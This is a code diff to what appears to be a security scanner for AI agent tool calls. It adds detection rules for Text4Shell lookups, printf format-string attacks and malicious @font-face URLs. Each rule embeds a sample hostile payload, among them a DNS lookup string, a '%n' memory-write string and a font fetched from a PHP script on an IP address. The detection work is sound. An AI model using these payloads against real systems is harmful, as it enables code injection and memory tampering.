@@ -1,5 +1,5 @@
 import type { PatternRule } from '../rule.ts';
-import { ALL_ROLES, holdsData, isTalk } from './where.ts';
+import { ALL_ROLES, holdsData, dominates, isTalk } from './where.ts';
 
 /** Documents that do more than show themselves: XML, server-side includes, LaTeX, spreadsheets. */
 export const documents: readonly PatternRule[] = [
@@ -122,6 +122,49 @@ export const documents: readonly PatternRule[] = [
     literals: ['importxml(', 'importdata(', 'importfeed(', 'importhtml(', 'webservice(', 'hyperlink(', 'image(', '=rtd('],
     pattern: /(?:^|["',;\t\n])\s*[=+\-@]\s*[^\n]{0,40}?(?:IMPORT(?:XML|DATA|FEED|HTML)|WEBSERVICE|HYPERLINK|IMAGE|RTD)\s*\([^\n]{0,30}?["'](?:(?:https?|ftp):\/\/[^"'\n]{1,160}["']\s*[&,;][^\n]{0,60}?(?:\$?[A-Z]{1,2}\$?\d{0,5}:\$?[A-Z]{1,2}\$?\d{0,5}|(?:TEXTJOIN|CONCATENATE|CONCAT|JOIN|ENCODEURL)\s*\()|(?:https?:\/\/|\\\\)(?:\d{1,3}\.){3}\d{1,3}\b)/i,
     accepts: ({ 0: match }, view, at) => view.place.file === '' && !isTalk(view, at, at + match.length),
+  },
+  {
+    id: 'code.text-lookup',
+    type: 'code_injection',
+    severity: 'high',
+    sees: 'a lookup of a text library that runs a script, asks a name server or fetches an address (`${script:…}`, Text4Shell)',
+    positive: { tool: 'set_variable', arguments: { name: 'greeting', value: '${dns:address|a.example.net}' } },
+    nearMiss: { tool: 'set_variable', arguments: { name: 'greeting', value: '${user:-guest} ${script}' } },
+    source: 'CVE-2022-42889',
+    roles: ALL_ROLES,
+    literals: ['${script:', '${url:', '${dns:', '%7bscript%3a'],
+    pattern: /\$\{(?:script:(?:javascript|js|jexl3?|groovy|nashorn|python|jruby):|url:UTF-?8:(?:https?|file|ftp):|dns:(?:address|name|canonical)\|)/i,
+    before: 8,
+    accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length),
+  },
+  {
+    id: 'code.format-string',
+    type: 'code_injection',
+    severity: 'high',
+    sees: 'a value made of conversions for `printf` that read or write memory (`%x%x%n`)',
+    positive: { tool: 'set_variable', arguments: { name: 'greeting', value: 'AAAA%08x.%08x.%08x.%n' } },
+    nearMiss: { tool: 'set_variable', arguments: { name: 'greeting', value: '%s, you have %d of %d messages' } },
+    source: 'CWE-134',
+    roles: ['path', 'url', 'host', 'prose', 'address', 'value', 'secret'],
+    literals: ['%n%', '%x%', '%p%', '%s%s', '%08x', '%x.%', '%p.%', '%x %', '%p %', '$n', '$hn', '%.1', '%99'],
+    pattern: /(?:%(?:\d{1,5}\$)?[0-9.*-]{0,8}(?:hh?|l{1,2})?[xXpsn][ .,:_|-]?){4,}|%\d{1,4}\$(?:hh?)?n\b|%(?:\.\d{3,}|\d{3,})[dux]%(?:\d{1,4}\$)?h{0,2}n/,
+    before: 24,
+    after: 120,
+    accepts: ({ 0: match }, view, at) => (/[npxX][ .,:_|-]?(?:%|$)/.test(match) || match.length > 15) && dominates(view, at, at + match.length),
+  },
+  {
+    id: 'code.font-from-script',
+    type: 'code_injection',
+    severity: 'high',
+    sees: 'a font for a document that is fetched from a script of a server, as the renderer keeps it under its name',
+    positive: { tool: 'html_to_pdf', arguments: { html: "<style>@font-face{font-family:'x';src:url('http://198.51.100.7/x.php')}</style>" } },
+    nearMiss: { tool: 'html_to_pdf', arguments: { html: "<style>@font-face{font-family:'x';src:url('https://example.com/x.woff2')}</style>" } },
+    source: 'CVE-2022-28368',
+    roles: ALL_ROLES,
+    literals: ['@font-face'],
+    pattern: /@font-face\s*\{[^}]{0,200}?url\(\s*["']?https?:[^)"'\s]{1,160}\.(?:php\d?|phtml|phar|jspx?|aspx?)\b/i,
+    before: 0,
+    accepts: (_match, { place }) => place.file === '',
   },
   {
     id: 'code.command-in-program',
